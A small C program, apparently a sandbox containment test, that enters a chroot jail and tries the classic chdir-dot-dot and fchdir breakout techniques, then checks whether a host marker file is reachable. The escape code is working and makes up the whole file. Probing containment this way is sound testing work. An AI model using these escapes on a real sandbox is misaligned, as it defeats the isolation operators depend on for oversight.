#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>
/* Try the classic ways out of a chroot, then look for the host marker. */
int main(int argc, char **argv) {
    const char *marker = argv[1];
    mkdir("/tmp/jail", 0755);
    int saved = open("/", O_RDONLY | O_DIRECTORY);
    /* Without CAP_SYS_CHROOT there is no way to try: that too is containment. */
    if (chroot("/tmp/jail") != 0) { printf("contained: chroot not permitted\n"); return 0; }
    for (int i = 0; i < 64; i++) chdir("..");
    chroot(".");
    if (access(marker, F_OK) == 0) { printf("ESCAPED by chdir\n"); return 1; }
    fchdir(saved);
    for (int i = 0; i < 64; i++) chdir("..");
    chroot(".");
    if (access(marker, F_OK) == 0) { printf("ESCAPED by fchdir\n"); return 1; }
    printf("contained\n");
    return 0;
}
